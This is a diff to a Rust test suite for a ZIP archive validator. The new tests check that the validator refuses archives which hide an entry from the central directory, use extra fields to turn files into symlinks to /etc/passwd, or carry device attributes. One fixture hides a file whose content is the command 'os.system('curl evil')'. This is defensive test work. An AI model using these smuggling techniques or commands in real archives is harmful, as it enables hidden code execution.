@@ -681,7 +681,7 @@ fn unsafe_names_are_refused() {
         (b"a\x1b[31m", 0x0800, Rule::ControlCharacter { code: 0x1b }),
         (b"caf\xe9", 0x0800, Rule::InvalidUtf8),
         (b"", 0x0800, Rule::EmptyName),
-        (b"./", 0x0800, Rule::EmptyName),
+        (b"././", 0x0800, Rule::EmptyName),
     ];
     for (name, flags, rule) in cases {
         let z = zip(vec![E::stored("x", b"x").raw_name(name).with(|e| e.flags = flags)]);
@@ -899,7 +899,7 @@ fn the_default_limits_are_lambdas() {
     let l = ZipLimits::default();
     assert_eq!(
         (l.max_unzipped, l.max_entries, l.max_name_len, l.max_central_directory),
-        (262_144_000, 65_535, 1024, 64 << 20)
+        (262_144_000, 1_000_000, 1024, 128 << 20)
     );
     let big = zip(vec![E::deflated("a", b"x").with(|e| e.usize = Some(262_144_001))]);
     assert_eq!(refuse_rule(&big), Rule::UnzippedTooLarge { actual: 262_144_001 });
@@ -966,4 +966,205 @@ fn every_single_byte_change_is_handled_without_panicking() {
         }
         let _ = zipcheck::inspect(&mut Cursor::new(&bytes[..i]), &limits());
     }
+}
+
+// ---------------------------------------------------------------------------------------
+// What streaming readers see: an entry hidden in stored data, extra fields and attributes
+// that change what an entry is (issue 11).
+
+/// The smuggle: a stored entry with a data descriptor whose data holds a fake descriptor
+/// (with the right CRC-32 and sizes for the bytes before it) and then a whole local header
+/// and data for `handler.py`. The central directory lists only `a.txt` and `handler.py`;
+/// a streaming reader that ends stored data at the first matching descriptor sees three.
+fn smuggled_handler() -> Zip {
+    let decoy = b"harmless text ".to_vec();
+    let hidden = b"import os; os.system('curl evil')\n";
+    let mut data = decoy.clone();
+    u32le(&mut data, 0x0807_4b50);
+    u32le(&mut data, crc32fast::hash(&decoy));
+    u32le(&mut data, decoy.len() as u32);
+    u32le(&mut data, decoy.len() as u32);
+    // A local header of a stored handler.py, sizes in the header, then its bytes.
+    u32le(&mut data, 0x0403_4b50);
+    u16le(&mut data, 20);
+    u16le(&mut data, 0);
+    u16le(&mut data, 0);
+    u32le(&mut data, 0x0021_0000);
+    u32le(&mut data, crc32fast::hash(hidden));
+    u32le(&mut data, hidden.len() as u32);
+    u32le(&mut data, hidden.len() as u32);
+    u16le(&mut data, 10);
+    u16le(&mut data, 0);
+    data.extend_from_slice(b"handler.py");
+    data.extend_from_slice(hidden);
+    zip(vec![E::stored("a.txt", &data).streamed(true), E::stored("handler.py", b"print('reviewed')\n")])
+}
+
+#[test]
+fn an_entry_hidden_from_the_central_directory_in_stored_data_is_refused() {
+    let err = refuse(&smuggled_handler());
+    assert_eq!(err.entry.as_deref(), Some("a.txt"));
+    assert_eq!(err.rule, Rule::DescriptorSignatureInData { offset: 14 });
+    assert_eq!(err.rule.id(), "descriptor-signature-in-data");
+    assert!(err.to_string().contains("store it deflated"), "{err}");
+    // The same bytes in a deflated entry, or stored without a descriptor, hide nothing: a
+    // streaming reader ends those by the deflate stream or by the header's sizes.
+    let data = smuggled_handler().entries[0].data.clone();
+    accept(&zip(vec![E::deflated("a.txt", &data).streamed(true)]));
+    accept(&zip(vec![E::stored("a.txt", &data)]));
+    // A signature split across the gate's reads is found too (1 MiB reads: put it astride).
+    let mut big = vec![b'x'; (1 << 20) - 2];
+    big.extend_from_slice(b"PK\x07\x08tail");
+    let err = refuse(&zip(vec![E::stored("big.bin", &big).streamed(true)]));
+    assert_eq!(err.rule, Rule::DescriptorSignatureInData { offset: (1 << 20) - 2 });
+}
+
+#[test]
+fn a_stored_entry_needs_a_signed_descriptor_and_no_descriptor_may_look_signed() {
+    // Without the signature a streaming reader cannot find the end of stored data.
+    let err = refuse(&zip(vec![E::stored("a", b"aaaa").streamed(false)]));
+    assert!(matches!(&err.rule, Rule::DataDescriptor { problem } if problem.contains("no signature")), "{err}");
+    accept(&zip(vec![E::deflated("a", b"aaaa").streamed(false)]));
+    // An unsigned descriptor whose CRC-32 is the signature's bytes (CRC-32 is linear, so
+    // four bytes with any CRC can be solved for; these were).
+    let data = [0xac, 0x0a, 0x7a, 0xd5];
+    assert_eq!(crc32fast::hash(&data), 0x0807_4b50);
+    let err = refuse(&zip(vec![E::deflated("a", &data).streamed(false)]));
+    assert!(matches!(&err.rule, Rule::DataDescriptor { problem } if problem.contains("reads as one")), "{err}");
+}
+
+#[test]
+fn a_zip64_descriptor_after_a_header_without_zip64_names_the_writer_option() {
+    // yazl's forceZip64Format: a 24-byte descriptor, no ZIP64 field in the local header.
+    let mut after = Vec::new();
+    u32le(&mut after, 0x0807_4b50);
+    u32le(&mut after, crc32fast::hash(b"aaaa"));
+    let c = deflate(b"aaaa");
+    u64le(&mut after, c.len() as u64);
+    u64le(&mut after, 4);
+    let z = zip(vec![E::deflated("a", b"aaaa").with(|e| {
+        e.flags |= 1 << 3;
+        e.local_crc = Some(0);
+        e.local_csize = Some(0);
+        e.local_usize = Some(0);
+        e.after = after;
+    })]);
+    let err = refuse(&z);
+    assert!(matches!(&err.rule, Rule::DataDescriptor { problem } if problem.contains("forceZip64Format")), "{err}");
+}
+
+#[test]
+fn extra_fields_that_can_change_an_entry_are_refused_in_either_header() {
+    // libarchive takes a file type from `xl` (0x6c78), and other readers from the ASi
+    // (0x756e) and PKWARE Unix (0x000d) fields: a regular file becoming a symlink.
+    let mut xl = vec![0x05]; // version made by + external attributes
+    u16le(&mut xl, 0x031e);
+    u32le(&mut xl, 0o120_777 << 16);
+    let mut asi = Vec::new();
+    u32le(&mut asi, 0); // CRC
+    u16le(&mut asi, 0o120_777);
+    u32le(&mut asi, 11);
+    u16le(&mut asi, 0);
+    u16le(&mut asi, 0);
+    asi.extend_from_slice(b"/etc/passwd");
+    let mut pkware = vec![0u8; 12];
+    pkware.extend_from_slice(b"/etc/passwd");
+    for (tag, data) in [(0x6c78u16, xl), (0x756e, asi), (0x000d, pkware)] {
+        for local in [true, false] {
+            let z = zip(vec![E::stored("config", b"setting=1\n").with(|e| {
+                if local { e.local_extra = extra(tag, &data) } else { e.central_extra = extra(tag, &data) }
+            })]);
+            let err = refuse(&z);
+            let header = if local { "local" } else { "central" };
+            assert!(
+                matches!(err.rule, Rule::ExtraField { tag: t, header: h, .. } if t == tag && h == header),
+                "{tag:#06x} in the {header} header: {err}"
+            );
+            assert_eq!(err.rule.id(), "extra-field");
+        }
+    }
+    // An unknown field is refused; the fields real writers write are not.
+    let err = refuse(&zip(vec![E::stored("a", b"x").with(|e| e.local_extra = extra(0x4242, b"??"))]));
+    assert!(err.to_string().contains("0x4242"), "{err}");
+    let mut ut = vec![1];
+    u32le(&mut ut, 1_700_000_000);
+    let mut ux = vec![1, 4];
+    u32le(&mut ux, 1000);
+    ux.push(4);
+    u32le(&mut ux, 1000);
+    let harmless = [extra(0x5455, &ut), extra(0x7875, &ux), extra(0x000a, &[0; 32]), extra(0xcafe, b"")].concat();
+    accept(&zip(vec![E::stored("a", b"x").with(|e| {
+        e.local_extra = harmless.clone();
+        e.central_extra = harmless.clone();
+    })]));
+    // A jar marker carries nothing.
+    assert!(matches!(
+        refuse_rule(&zip(vec![E::stored("a", b"x").with(|e| e.local_extra = extra(0xcafe, b"x"))])),
+        Rule::ExtraField { tag: 0xcafe, .. }
+    ));
+}
+
+#[test]
+fn an_xl_field_that_repeats_the_central_directory_is_accepted() {
+    let file = E::stored("a", b"x");
+    let mut xl = vec![0x07];
+    u16le(&mut xl, file.made_by);
+    u16le(&mut xl, 0);
+    u32le(&mut xl, file.external);
+    accept(&zip(vec![file.clone().with(|e| e.local_extra = extra(0x6c78, &xl))]));
+    // Another host system changes how libarchive reads the attributes.
+    let mut other = vec![0x01];
+    u16le(&mut other, 0x001e);
+    assert!(matches!(
+        refuse_rule(&zip(vec![file.with(|e| e.local_extra = extra(0x6c78, &other))])),
+        Rule::ExtraField { tag: 0x6c78, header: "local", .. }
+    ));
+}
+
+#[test]
+fn attributes_that_make_an_entry_a_device_or_a_hidden_folder_are_refused() {
+    for (mode, what) in [
+        (0o010_644, "FIFO"),
+        (0o020_644, "character device"),
+        (0o060_644, "block device"),
+        (0o140_644, "socket"),
+        (0o040_755, "directory"),
+    ] {
+        let err = refuse(&zip(vec![E::stored("dev", b"").with(|e| e.external = mode << 16)]));
+        assert!(matches!(&err.rule, Rule::FileType { problem } if problem.contains(what)), "{mode:o}: {err}");
+        assert_eq!(err.rule.id(), "file-type");
+    }
+    let err = refuse(&zip(vec![E::stored("dir", b"").with(|e| e.external = 0x10)]));
+    assert!(matches!(&err.rule, Rule::FileType { problem } if problem.contains("MS-DOS")), "{err}");
+    // Folders named with "/" and files with a regular mode, or none, are what writers write.
+    accept(&zip(vec![E::dir("d/"), E::stored("d/f", b"x").with(|e| e.external = 0), E::stored("g", b"y")]));
+}
+
+#[test]
+fn the_root_folder_entry_that_bsdtar_writes_is_accepted() {
+    // `bsdtar -a -cf fn.zip -C dir .`: a `./` entry, then every name under `./`.
+    let inspected = accept(&zip(vec![E::dir("./"), E::dir("./lib/"), E::deflated("./lib/handler.py", b"x = 1\n")]));
+    assert_eq!(inspected.entries, 3);
+    // It is a folder: with data, or twice, it is refused like any other.
+    assert_eq!(refuse_rule(&zip(vec![E::stored("./", b"data")])), Rule::DirectoryWithData { size: 4 });
+    assert!(matches!(refuse_rule(&zip(vec![E::dir("./"), E::dir("./")])), Rule::DuplicateName { .. }));
+}
+
+#[test]
+fn zero_padding_after_the_end_record_is_accepted_up_to_64_kib() {
+    let mut bytes = zip(sample()).build();
+    let plain = inspect(&bytes).unwrap();
+    bytes.resize(bytes.len().next_multiple_of(10_240), 0);
+    assert_eq!(inspect(&bytes).unwrap(), plain);
+    let tail = zipcheck::read_tail(&mut Cursor::new(&bytes), &limits()).unwrap();
+    assert!(tail.end.padding > 0);
+    bytes.extend(vec![0; 65_536]);
+    assert!(matches!(inspect(&bytes).unwrap_err().rule, Rule::BytesAfterEndRecord { .. }));
+}
+
+#[test]
+fn more_than_65535_entries_in_zip64_are_accepted() {
+    let entries: Vec<E> = (0..70_000).map(|i| E::stored(&format!("f/{i:05}"), b"")).collect();
+    let z = zip(entries).with(|z| z.zip64_end = true);
+    assert_eq!(accept(&z).entries, 70_000);
 }
